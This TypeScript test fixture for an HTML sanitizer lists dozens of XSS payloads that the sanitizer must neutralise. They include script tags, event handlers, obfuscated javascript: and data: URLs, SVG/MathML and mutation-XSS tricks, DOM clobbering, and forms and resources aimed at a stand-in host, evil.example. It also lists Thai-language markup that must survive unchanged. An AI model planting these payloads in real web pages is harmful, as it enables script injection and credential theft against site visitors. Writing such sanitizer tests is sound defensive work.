/**
 * Markup that must come out harmless. A script that runs would mark the page. `text`: the text that must stay readable,
 * if any. The tests check every row for anything active, then show it on the page.
 */
export interface HostileRow {
  html: string;
  text?: string;
}

const run = 'window.pwned=1';

export const hostile: readonly HostileRow[] = [
  // Scripts and handlers
  { html: `<b>a</b><script>${run}</script>`, text: 'a' },
  { html: `<ScRiPt src=//evil.example/x.js></sCrIpT>b`, text: 'b' },
  { html: `<img src=x onerror=${run}>c`, text: 'c' },
  { html: `<img src=x oNeRrOr\n=\n"${run}">c`, text: 'c' },
  { html: `<img/src="x"/onerror=${run}//>c`, text: 'c' },
  { html: `<p onclick="${run}" onmouseover=${run} onpointerenter=${run}>d</p>`, text: 'd' },
  { html: `<details open ontoggle=${run}>e</details>`, text: 'e' },
  { html: `<body onload=${run}>f</body>`, text: 'f' },
  { html: `<div onanimationstart=${run} style="animation:x">g</div>`, text: 'g' },
  { html: `<input autofocus onfocus=${run}>h`, text: 'h' },
  { html: `<marquee onstart=${run}>i</marquee>`, text: 'i' },
  { html: `<video src=x onerror=${run} autoplay></video>j`, text: 'j' },
  { html: `<audio src=x autoplay onloadstart=${run}></audio>k`, text: 'k' },
  // URL schemes
  { html: `<a href="javascript:${run}">l</a>`, text: 'l' },
  { html: `<a href="JaVaScRiPt:${run}">l</a>`, text: 'l' },
  { html: `<a href="  \t javascript:${run}">l</a>`, text: 'l' },
  { html: `<a href="java\nscript:${run}">l</a>`, text: 'l' },
  { html: `<a href="java&#x09;script&colon;${run}">l</a>`, text: 'l' },
  { html: `<a href="&#106;&#97;vascript:${run}">l</a>`, text: 'l' },
  { html: `<a href="&#x0;&#x1;javascript:${run}">l</a>`, text: 'l' },
  { html: `<a href="vbscript:msgbox(1)">m</a>`, text: 'm' },
  { html: `<a href="data:text/html,<script>${run}</script>">n</a>`, text: 'n' },
  { html: `<a href="data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+">n</a>`, text: 'n' },
  { html: `<a href="blob:https://evil.example/1">n</a><a href="file:///etc/passwd">n</a>`, text: 'nn' },
  { html: `<a href="filesystem:https://evil.example/1">n</a><a href="intent://x#Intent;end">n</a>`, text: 'nn' },
  { html: `<a href="https://bank.example@evil.example/">o</a>`, text: 'o' },
  {
    html: `<a href="https://good.example" ping="https://evil.example/ping" target="_self" rel="opener">p</a>`,
    text: 'p',
  },
  { html: `<area href="javascript:${run}"><map name=x><area href=//evil.example></map>q`, text: 'q' },
  { html: `<a xlink:href="javascript:${run}">r</a>`, text: 'r' },
  // Other namespaces
  { html: `<svg onload=${run}><script>${run}</script></svg>s`, text: 's' },
  { html: `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>s`, text: 's' },
  { html: `<svg><animate onbegin=${run} attributeName=x dur=1s>`, text: '' },
  {
    html: `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  },
  { html: `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>` },
  { html: `<math><maction actiontype="statusline#http://evil" xlink:href="javascript:${run}">t</maction></math>` },
  { html: `<math href="javascript:${run}">CLICK</math>` },
  // Mutation XSS
  { html: `<svg></p><style><a id="</style><img src=1 onerror=${run}>">` },
  { html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">` },
  { html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>` },
  { html: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { html: `<listing>&lt;img onerror="${run}" src=x&gt;</listing>` },
  { html: `<xmp><p title="</xmp><img src=x onerror=${run}>">` },
  { html: `<title><a title="</title><img src=x onerror=${run}>">` },
  { html: `<textarea><img title="</textarea><img src=x onerror=${run}>">` },
  { html: `<select><template><img src=x onerror=${run}></template></select>` },
  { html: `<template><img src=x onerror=${run}></template>u`, text: 'u' },
  { html: `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>v`, text: 'v' },
  { html: `<!--><img src=x onerror=${run}>-->w` },
  { html: `<![CDATA[><img src=x onerror=${run}>]]>` },
  { html: `<a id="x" <b title="</a><img src=x onerror=${run}>">` },
  { html: `<svg><style>{font-family:'<iframe/onload=${run}>'`, text: '' },
  { html: `${'<div>'.repeat(600)}<img src=x onerror=${run}>` },
  // Frames, documents, forms
  { html: `<iframe src="https://evil.example"></iframe>x`, text: 'x' },
  { html: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>x`, text: 'x' },
  {
    html: `<object data="data:text/html,<script>${run}</script>"></object><embed src=//evil.example/e.swf>y`,
    text: 'y',
  },
  { html: `<meta http-equiv="refresh" content="0;url=https://evil.example">z`, text: 'z' },
  { html: `<base href="https://evil.example/"><a href="x">a</a>`, text: 'a' },
  { html: `<link rel=stylesheet href=//evil.example/e.css><link rel=prefetch href=//evil.example>b`, text: 'b' },
  {
    html: `<form action="https://evil.example"><input name=password><button>c</button><button formaction=//evil.example>d</button></form>`,
  },
  { html: `<input type=image src="https://evil.example/i.png" formaction="javascript:${run}">` },
  { html: `<button popovertarget=x>e</button><div id=x popover>f</div>`, text: 'f' },
  { html: `<dialog open style="position:fixed;inset:0">g</dialog>`, text: 'g' },
  { html: `<portal src=//evil.example></portal><fencedframe></fencedframe>h`, text: 'h' },
  // Styling and overlays
  {
    html: `<div style="position:fixed;inset:0;z-index:9999;background:red" class="scrim" id="root">i</div>`,
    text: 'i',
  },
  { html: `<style>body{display:none}@import '//evil.example/e.css'</style>j`, text: 'j' },
  { html: `<p style="background:url(https://evil.example/t.png)">k</p>`, text: 'k' },
  {
    html: `<table background="https://evil.example/t.png"><tr><td background=//evil.example>l</td></tr></table>`,
    text: 'l',
  },
  { html: `<img src="/favicon.svg" width="99999" height="100%" alt="m">`, text: '' },
  // Requests to other hosts
  { html: `<img src="https://evil.example/t.png" alt="n">`, text: 'n' },
  { html: `<img src="//evil.example/t.png" alt="n">`, text: 'n' },
  { html: `<img src="\\\\evil.example/t.png" alt="n">`, text: 'n' },
  { html: `<img src="/favicon.svg" srcset="https://evil.example/t.png 2x" sizes="100vw" alt="">`, text: '' },
  { html: `<picture><source srcset="https://evil.example/t.png"><img alt="o"></picture>`, text: 'o' },
  {
    html: `<img lowsrc="https://evil.example" dynsrc="https://evil.example" longdesc="https://evil.example" alt="p">`,
    text: 'p',
  },
  { html: `<video poster="https://evil.example/t.png" controls><track src=//evil.example></video>q`, text: 'q' },
  { html: `<body background="https://evil.example/t.png">r`, text: 'r' },
  { html: `<img src="data:text/html,<script>${run}</script>" alt="s">`, text: 's' },
  { html: `<q cite="https://evil.example">t</q><del cite="https://evil.example">u</del>`, text: 'tu' },
  // DOM clobbering, and attributes that must be removed
  { html: `<a id=location name=cookie href="https://good.example">v</a><img name=body alt=w>`, text: 'vw' },
  {
    html: `<p slot="x" part="y" data-x="1" aria-hidden="true" tabindex="9" accesskey="z" contenteditable>x</p>`,
    text: 'x',
  },
  { html: `<p is="x-evil">x</p>` },
  { html: `<x-evil onclick=${run}>y</x-evil>`, text: 'y' },
  { html: `__proto__<p constructor="1" __proto__="2">z</p>`, text: '__proto__z' },
  { html: `<div hidden inert>a</div>`, text: 'a' },
  { html: `%percentFail%<img src=x onerror=${run}>%`, text: '%percentFail%%' },
];

/** Markup as the operator's editors write it. Sanitizing must not change this markup. */
export const harmless: readonly string[] = [
  '<p>ข้อความ <b>หนา</b> <strong>เข้ม</strong> <i>เอียง</i> <em>เน้น</em> <u>ขีด</u></p>',
  '<ul><li>หนึ่ง</li><li>สอง</li></ul>',
  '<ol start="3"><li>ສາມ</li></ol>',
  '<h3>หัวข้อ</h3><hr><blockquote>คำพูด</blockquote>',
  '<table><thead><tr><th colspan="2">หัว</th></tr></thead><tbody><tr><td>ก</td><td>ข</td></tr></tbody></table>',
  '<p>บรรทัดหนึ่ง<br>บรรทัดสอง</p>',
  '<p lang="en" dir="ltr">1 &lt; 2 &amp; 3</p>',
];
